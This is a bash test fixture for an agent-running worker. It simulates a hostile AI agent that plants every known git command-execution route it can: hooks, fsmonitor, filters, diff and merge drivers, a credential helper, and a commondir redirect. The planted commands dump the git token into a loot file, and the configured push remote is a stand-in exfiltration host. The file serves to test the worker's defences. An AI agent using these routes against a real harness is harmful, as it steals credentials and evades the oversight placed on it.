#!/bin/bash
# A hostile agent (issue 15), run by the worker in place of the CLI (OUTPOST_AGENT_COMMAND). It plants every
# route it knows for making the worker's git run a command of its choosing. Each planted command appends
# `loot <route>` and its environment (where the git token would be) to /tmp/hostile-git/loot, on the task's
# /tmp volume, which the test reads after the run (the worker's own directories are closed to the agent); a
# filter also writes the token into the content it returns, which would be pushed. Before planting, it makes
# a commit of its own and writes its change.
set -u
work=$PWD
evil=/tmp/hostile-git
transcript="$evil/loot"
mkdir -p "$evil/hooks"
chmod 777 "$evil"

# steal <route>: the path of a command that reports the route and its environment.
steal() {
  printf '#!/bin/sh\n{ echo "loot %s"; env; } >> "%s"\nexit 0\n' "$1" "$transcript" > "$evil/$1"
  chmod 755 "$evil/$1"
  echo "$evil/$1"
}
# filter <route>: the same as a clean/smudge filter, which passes its input on with the token appended.
filter() {
  printf '#!/bin/sh\n{ echo "loot %s"; env; } >> "%s"\ncat\necho "${OUTPOST_GIT_PASSWORD:-}"\n' "$1" "$transcript" > "$evil/$1"
  chmod 755 "$evil/$1"
  echo "$evil/$1"
}

echo "hostile agent: working in $work"
# The agent's own repository works as a normal one: a commit of its own, before anything is planted.
echo "committed by the hostile agent" > committed.txt
git add committed.txt && git -c user.name=Agent -c user.email=agent@outpost.invalid commit --quiet -m "the agent's own commit" \
  && echo "hostile agent: committed locally" || echo "hostile agent: local commit FAILED"
echo "hello from a hostile agent" > hello.txt
echo "notes of a hostile agent" > notes.txt

config="[core]
	repositoryformatversion = 1
	bare = false
	fsmonitor = $(steal fsmonitor)
	hooksPath = $evil/hooks
	sshCommand = $(steal ssh-command)
	askPass = $(steal askpass)
	attributesFile = $evil/attributes
[extensions]
	worktreeConfig = true
[filter \"x\"]
	clean = $(filter clean-filter)
	smudge = $(filter smudge-filter)
	required = true
[diff \"x\"]
	command = $(steal diff-driver)
	textconv = $(steal textconv)
[merge \"x\"]
	driver = $(steal merge-driver)
[credential]
	helper = !$(steal credential-helper)
[url \"ssh://evil.invalid/\"]
	pushInsteadOf = https://
[http]
	proxy = http://127.0.0.1:9/
[protocol]
	allow = always
[includeIf \"gitdir:/\"]
	path = $evil/included.conf
[remote \"origin\"]
	url = https://evil.invalid/stolen.git
"
printf '[filter "y"]\n\tclean = %s\n\trequired = true\n' "$(filter include-filter)" > "$evil/included.conf"
printf '* filter=x diff=x merge=x\n' > "$evil/attributes"
for hook in pre-commit prepare-commit-msg commit-msg post-commit pre-push post-checkout reference-transaction post-index-change pre-auto-gc; do
  cp "$(steal "hook-$hook")" "$evil/hooks/$hook"
  cp "$evil/hooks/$hook" ".git/hooks/$hook" 2>/dev/null || { mkdir -p .git/hooks && cp "$evil/hooks/$hook" ".git/hooks/$hook"; }
done

# The repository's own configuration, config.worktree, a linked worktree's, and the global ones in HOME.
printf '%s' "$config" > .git/config
printf '[filter "z"]\n\tclean = %s\n\trequired = true\n' "$(filter worktree-filter)" > .git/config.worktree
mkdir -p .git/worktrees/w && printf '%s' "$config" > .git/worktrees/w/config.worktree
mkdir -p "$HOME/.config/git" && printf '%s' "$config" > "$HOME/.gitconfig" && printf '%s' "$config" > "$HOME/.config/git/config"
# Attributes: in the tree, in .git/info, and the file core.attributesFile names.
printf '* filter=x diff=x merge=x\nhello.txt filter=y\nnotes.txt filter=z\n' > .gitattributes
mkdir -p .git/info && printf '* filter=x diff=x merge=x\n' > .git/info/attributes
# commondir (the route the review proved): git reads config, hooks and refs from there instead.
cp -a .git "$evil/common" && printf '%s' "$config" > "$evil/common/config"
printf '%s\n' "$evil/common" > .git/commondir
echo "hostile agent: planted"

# The control: the channel works. This command runs now, as the agent (no token in its environment), after the
# agent's own output, and must be the only loot in the transcript.
sleep 1
"$(steal canary)"
